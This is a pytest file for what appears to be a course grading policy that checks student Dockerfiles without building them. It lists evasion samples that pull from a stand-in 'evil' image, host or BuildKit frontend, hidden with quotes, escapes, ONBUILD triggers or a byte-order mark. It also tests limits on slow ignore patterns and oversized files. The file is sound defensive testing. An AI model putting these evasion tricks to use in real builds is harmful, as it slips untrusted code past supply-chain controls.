"""The restrictions on a submission's Dockerfile, checked without a build."""

from __future__ import annotations

from pathlib import Path

import pytest

from stagelens.dockerfile import DockerfileError, parse
from stagelens_course.grading import policy
from stagelens_course.grading.policy import NotAllowed

IMAGES = ("diamol/base",)
MARK = "\ufeff"


@pytest.mark.parametrize(
    "text",
    [
        "FROM evil\n",
        "FROM docker.io/library/evil\n",
        "FROM diamol/base:other\n",
        "ARG X\nFROM ${X:-evil}\n",
        "ARG X=diamol/base\nFROM ${X:+evil}\n",
        "FROM diamol/base\nCOPY --from=evil / /\n",
        "FROM diamol/base\nCOPY --from=$WHOEVER / /\n",
        "FROM diamol/base\nRUN --mount=type=bind,from=evil,target=/x true\n",
        "FROM diamol/base\nRUN --mount=type=cache,from=evil,target=/x true\n",
        "FROM diamol/base\nADD https://evil.example/x /\n",
        "FROM diamol/base\nADD git@evil.example:x /\n",
        "FROM diamol/base\nADD somebody@evil.example:x /\n",
        # Words end at blanks only, and then lose their quotes and escapes.
        "FROM diamol/base\nADD a\\ https://evil.example/x\\ /z/\n",
        'FROM diamol/base\nADD "http:"//evil.example/x /\n',
        "FROM diamol/base\nADD http:\\//evil.example/x /\n",
        'FROM diamol/base\nADD ["http:\\\\//evil.example/x", "/"]\n',
        "# escape=`\nFROM diamol/base\nADD http:`//evil.example/x /\n",
        # The last of two counts.
        "FROM diamol/base\nRUN --mount=from=diamol/base,from=evil,target=/x true\n",
        "FROM diamol/base AS a\nONBUILD COPY --from=evil / /\nFROM a\n",
        "FROM diamol/base AS a\nONBUILD RUN --mount=from=evil,target=/x true\nFROM a\n",
        "FROM diamol/base AS a\nONBUILD ADD http://evil.example/ /\nFROM a\n",
        "FROM diamol/base AS a\nONBUILD ADD http:\\//evil.example/ /\nFROM a\n",
        'FROM diamol/base AS a\nONBUILD COPY --fr"om"=evil / /\nFROM a\n',
        "FROM diamol/base AS a\nONBUILD COPY --fr\\om=evil / /\nFROM a\n",
        "# syntax=evil/one\nFROM diamol/base\n",
        f"{MARK}#SynTax = evil/one\nFROM diamol/base\n",
        "// syntax=evil/one\nFROM diamol/base\n",
        '{"syntax": "evil/one"}\n',
    ],
)
def test_dockerfile_that_fetches_from_elsewhere_is_refused(text: str) -> None:
    with pytest.raises((NotAllowed, DockerfileError)):
        policy.check_dockerfile(parse(text), IMAGES)


@pytest.mark.parametrize("before", ["", MARK, "#!/bin/sh\n", f"{MARK}#!/bin/sh\n", "# escape=`\n"])
def test_no_line_remains_that_selects_a_frontend(before: str) -> None:
    text = policy.disable_syntax_line(f"{before}# syntax=docker/dockerfile:1\nFROM diamol/base\n")
    assert "syntax" not in text
    assert not text.startswith(MARK)
    assert parse(text).syntax is None
    assert text.endswith("# frontend=docker/dockerfile:1\nFROM diamol/base\n")


def test_syntax_comment_after_the_directives_is_unchanged() -> None:
    text = "FROM diamol/base\n# syntax=evil/one\n"
    assert policy.disable_syntax_line(text) == text


@pytest.mark.parametrize("name", [".dockerignore", "Dockerfile.dockerignore"])
def test_ignore_patterns_that_take_forever_are_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("**/node_modules\n*.{js,ts}\n!keep?.me\n")
    policy.check_ignore_files(tmp_path)
    (tmp_path / name).write_text("ok\n" + "?{1,200}" * 5 + "b\n")
    with pytest.raises(NotAllowed, match=rf"{name}, line 2"):
        policy.check_ignore_files(tmp_path)
    (tmp_path / name).write_text("*a\n" * 50_000)
    with pytest.raises(NotAllowed, match="64 KiB"):
        policy.check_ignore_files(tmp_path)


def test_huge_dockerfile_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "Dockerfile"
    path.write_text("FROM diamol/base AS b\n" * 50_000)
    with pytest.raises(NotAllowed, match="64 KiB"):
        policy.load_dockerfile(path)
    path.write_text("FROM diamol/base\n" * 501)
    with pytest.raises(NotAllowed, match="the limit is 500"):
        policy.load_dockerfile(path)
    path.write_text("FROM diamol/base\n" + "RUN true\n" * 20)
    assert len(policy.load_dockerfile(path).stages) == 1


def test_onbuild_that_fetches_nothing_is_allowed() -> None:
    text = "FROM diamol/base AS a\nONBUILD RUN <<END\necho from=here\nEND\nONBUILD COPY . /app\nFROM a\n"
    policy.check_dockerfile(parse(text), IMAGES)
